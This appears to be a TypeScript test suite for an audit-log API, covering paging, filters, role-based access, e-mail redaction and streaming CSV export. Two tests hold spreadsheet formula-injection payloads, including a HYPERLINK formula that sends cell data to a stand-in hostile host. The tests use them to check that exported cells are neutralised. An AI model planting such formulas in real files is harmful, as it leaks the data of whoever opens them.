import { ExplainNode, type KyselyPlugin, SelectQueryNode, sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import type { AuditEvent } from '../../contract/audit-events.ts';
import type { NewRow } from '../kernel/schema.ts';
import { type TestPlant, testPlant } from '../testing/plant.ts';
import { ENGINES, type Engine, makeUser } from '../testing/testing.ts';
import { csvLines } from './audit-events.csv.ts';
import { auditEventsRepo } from './audit-events.repo.ts';

const QUERY_PLAN = sql`query plan`.toOperationNode();

async function leave(plant: TestPlant, over: Partial<NewRow<'audit_events'>> = {}): Promise<string> {
  const row = {
    organization_id: plant.organization.id,
    id: plant.deps.ids.uuid(),
    at: plant.deps.clock.now(),
    actor_kind: 'user' as const,
    actor_id: plant.owner.id,
    verb: 'machines.update',
    entity_id: 'm1',
    workspace_id: plant.workspace.id,
    before: JSON.stringify({ name: 'Lis', rev: 1 }),
    after: JSON.stringify({ name: 'Lis 2', rev: 2 }),
    request_id: 'r1',
    ...over,
  };
  await plant.deps.db.write(plant.organization.id, (db) => db.insertInto('audit_events').values(row).execute());
  return row.id;
}
const list = async (plant: TestPlant, query = '') =>
  plant.get<{ items: AuditEvent[]; next_cursor: string | null }>(`/audit-events${query}`);
const ids = async (...asked: Parameters<typeof list>) => (await list(...asked)).items.map(({ id }) => id);
const csv = async (plant: TestPlant, query = '', headers = plant.headers) => {
  const answer = await plant.app.request(`${plant.root}/audit-events.csv${query}`, { headers });
  expect(answer.status).toBe(200);
  return { answer, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer()) };
};

describe.each(ENGINES)('the audit trail on %s', (engine: Engine) => {
  it('is read newest first with names of people, keys and loggers', async () => {
    const plant = await testPlant(engine);
    const device = await leave(plant, { actor_kind: 'device', actor_id: plant.credential.id, verb: 'channels.create' });
    const key = (await (await plant.send('POST', '/api-keys', { name: 'ERP', scopes: ['org:read'], expires_in_days: 30 })).json()) as {
      id: string;
    };
    plant.deps.clock.advance(1);
    const byKey = await leave(plant, { actor_kind: 'key', actor_id: key.id });
    const bySystem = await leave(plant, { actor_kind: 'system', actor_id: null });
    const { items } = await list(plant);
    expect(items.map(({ id }) => id).slice(0, 2)).toEqual([bySystem, byKey]);
    expect(new Map(items.map((one) => [one.verb === 'api-keys.create' ? 'person' : one.id, one.actor_name]))).toEqual(
      new Map([
        [bySystem, null],
        [byKey, 'ERP'],
        ['person', plant.owner.name],
        [device, plant.datalogger.name],
      ]),
    );
    expect(items[1]).toMatchObject({ before: { name: 'Lis' }, after: { name: 'Lis 2' }, all_orgs: false });
  });

  it('comes page by page, none twice and none left out, also when many changes have one moment', async () => {
    const plant = await testPlant(engine);
    for (let i = 0; i < 7; i++) {
      await leave(plant);
      if (i % 3 === 2) plant.deps.clock.advance(1);
    }
    const whole = await ids(plant);
    const paged: string[] = [];
    let cursor: string | null = '';
    while (cursor !== null) {
      const page: Awaited<ReturnType<typeof list>> = await list(plant, `?limit=2${cursor && `&cursor=${cursor}`}`);
      paged.push(...page.items.map(({ id }) => id));
      cursor = page.next_cursor;
    }
    expect(paged).toEqual(whole);
    expect(whole).toHaveLength(7);
  });

  it('is narrowed by entity, row, person, workspace, time and by who sees all organisations', async () => {
    const plant = await testPlant(engine);
    const other = await makeUser(plant.deps);
    const machine = await leave(plant);
    plant.deps.clock.advance(60_000_000);
    const shift = await leave(plant, { verb: 'shift-calendars.set', entity_id: 's1', actor_id: other.id, workspace_id: null, all_orgs: 1 });
    expect(await ids(plant, '?entity=machines')).toEqual([machine]);
    expect(await ids(plant, '?entity=shift-calendars')).toEqual([shift]);
    expect(await ids(plant, '?entity=shift_calendars')).toEqual([]);
    expect(await ids(plant, '?entity=mach')).toEqual([]);
    expect(await ids(plant, '?entity_id=m1')).toEqual([machine]);
    expect(await ids(plant, `?actor_id=${other.id}`)).toEqual([shift]);
    expect(await ids(plant, `?workspace_id=${plant.workspace.id}`)).toEqual([machine]);
    expect(await ids(plant, '?all_orgs=1')).toEqual([shift]);
    expect(await ids(plant, '?from=2026-03-02T08:01:00Z')).toEqual([shift]);
    expect(await ids(plant, '?to=2026-03-02T08:01:00Z')).toEqual([machine]);
    for (const query of ['?from=2026-99-99T00:00:00Z', '?cursor=nesmysl'])
      expect((await plant.app.request(`${plant.root}/audit-events${query}`, { headers: plant.headers })).status).toBe(422);
  });

  it('is for those who may read it, and of their organisation only', async () => {
    const plant = await testPlant(engine);
    const other = await testPlant(engine, { deps: plant.deps });
    await leave(plant);
    const own = await leave(other);
    expect(await ids(other)).toEqual([own]);
    for (const path of ['/audit-events', '/audit-events.csv']) {
      const asked = async (headers: Record<string, string>) => (await plant.app.request(plant.root + path, { headers })).status;
      expect(await asked(await plant.member('auditor'))).toBe(200);
      expect(await asked(await plant.member('member'))).toBe(403);
      expect(await asked(await plant.member('manager', plant.workspace.id))).toBe(403);
      expect(await asked(other.headers)).toBe(404);
    }
  });

  it('shows e-mails to those who manage members only, in the file too', async () => {
    const plant = await testPlant(engine);
    await leave(plant, { verb: 'invitations.create', before: null, after: JSON.stringify({ email: 'petr@example.com', name: 'Petr' }) });
    const auditor = await plant.member('auditor');
    const seen = async (headers: Record<string, string>) => {
      const answer = await plant.app.request(`${plant.root}/audit-events`, { headers });
      return `${await answer.text()}${(await csv(plant, '', headers)).text}`;
    };
    expect(await seen(plant.headers)).toContain('petr@example.com');
    expect(await seen(auditor)).not.toContain('petr@example.com');
    expect(await seen(auditor)).toContain('Petr');
  });

  it('tells the history of one row page by page', async () => {
    const plant = await testPlant(engine);
    const left: string[] = [];
    for (let i = 0; i < 3; i++) {
      left.unshift(await leave(plant));
      await leave(plant, { entity_id: 'm2' });
      plant.deps.clock.advance(1);
    }
    expect(await ids(plant, '?entity_id=m1')).toEqual(left);
    const first = await list(plant, '?entity_id=m1&limit=2');
    expect(await ids(plant, `?entity_id=m1&limit=2&cursor=${first.next_cursor}`)).toEqual(left.slice(2));
  });

  it('is a file that spreadsheets open, with one row for each changed field', async () => {
    const plant = await testPlant(engine);
    await leave(plant, {
      before: JSON.stringify({ name: 'Lis', note: null, rev: 1 }),
      after: JSON.stringify({ name: '=HYPERLINK("http://zlo")', note: 'řádek 1\nřádek 2', rev: 2 }),
    });
    const { answer, text } = await csv(plant);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="taktlog-audit-2026-03-02.csv"');
    const head = `2026-03-02T08:00:00Z,user,Jana Nováková,false,machines.update,m1,${plant.workspace.id},Hala 1`;
    expect(text).toBe(
      [
        '\ufeffat,actor_kind,actor,all_orgs,verb,entity_id,workspace_id,workspace,field,before,after,request_id',
        `${head},name,Lis,"'=HYPERLINK(""http://zlo"")",r1`,
        `${head},note,,"řádek 1\nřádek 2",r1`,
        '',
      ].join('\r\n'),
    );
  });

  it('brings the auditor no key of a logger that his spreadsheet would run, by whichever separator he opens it', async () => {
    const plant = await testPlant(engine);
    const formula = '=HYPERLINK("http://zlo.example/?x="&A1,"Chyba")';
    const keys = [formula, `teplota;${formula}`, `teplota\t${formula}`, `＝${formula.slice(1)}`, ` ${formula}`];
    expect((await plant.post(Object.fromEntries(keys.map((key, i) => [key, -i - 1])))).status).toBe(200);
    const { text } = await csv(plant, '', await plant.member('auditor'));
    expect(text).toContain('HYPERLINK');
    for (const cell of text.split(/[,;\t\r\n]/)) expect(cell).not.toMatch(/^[\s"]*[=＝]/);
  });

  it('goes out page by page as it is read, each row once, and stops when the reader goes', async () => {
    const plant = await testPlant(engine);
    const row = {
      organization_id: plant.organization.id,
      at: plant.deps.clock.now(),
      actor_kind: 'system' as const,
      verb: 'machines.update',
    };
    const empty = { actor_id: null, entity_id: null, workspace_id: null, before: null, after: null, request_id: null };
    await plant.deps.db.write(plant.organization.id, (db) =>
      db
        .insertInto('audit_events')
        .values(Array.from({ length: 1_203 }, () => ({ ...row, ...empty, id: plant.deps.ids.uuid() })))
        .execute(),
    );
    let reads = 0;
    const { long } = plant.deps.db;
    plant.deps.db.long = (...asked) => {
      reads++;
      return long(...asked);
    };
    expect((await csv(plant)).text.split('\r\n')).toHaveLength(1_203 + 2);
    expect(reads).toBe(3);

    reads = 0;
    const answer = await plant.app.request(`${plant.root}/audit-events.csv`, { headers: plant.headers });
    const reader = answer.body!.getReader();
    expect((await reader.read()).value!.byteLength).toBeGreaterThan(1_000);
    await reader.cancel();
    expect(reads).toBe(1);
    plant.deps.db.long = long;
  });
});

it('a change without a visible field is one line', () => {
  const event = {
    id: 'e',
    at: 't',
    actor_kind: 'system',
    actor_id: null,
    actor_name: null,
    all_orgs: true,
    verb: 'v',
    entity_id: null,
  } as const;
  expect(csvLines({ ...event, workspace_id: null, before: { rev: 1 }, after: { rev: 2 }, request_id: null }, null)).toBe(
    't,system,,true,v,,,,,,,\r\n',
  );
});

it('on SQLite the history of one row is looked up by the row, and the trail is walked only where it is wanted whole', async () => {
  const plant = await testPlant('sqlite');
  const explaining: KyselyPlugin = {
    transformQuery: ({ node }) => (SelectQueryNode.is(node) ? { ...node, explain: ExplainNode.create(undefined, QUERY_PLAN) } : node),
    transformResult: async ({ result }) => result,
  };
  const indexOf = (filter: object, cursor: [number, string] | null) =>
    plant.deps.db.read(plant.organization.id, async (db) => {
      const repo = auditEventsRepo({ db: db.withPlugin(explaining), organization_id: plant.organization.id });
      const plan = (await repo.list({ workspaces: 'all', ...filter }, { cursor, limit: 10 })) as unknown as { detail: string }[];
      return plan.flatMap(({ detail }) => / a USING INDEX (\w+)/.exec(detail)?.[1] ?? []);
    });
  for (const cursor of [null, [plant.deps.clock.now(), 'x']] as ([number, string] | null)[]) {
    expect(await indexOf({ entity_id: 'm1' }, cursor)).toEqual(['audit_events_entity']);
    expect(await indexOf({ entity_id: 'm1', from: 1, to: plant.deps.clock.now() }, cursor)).toEqual(['audit_events_entity']);
    expect(await indexOf({}, cursor)).toEqual(['audit_events_at']);
  }
});
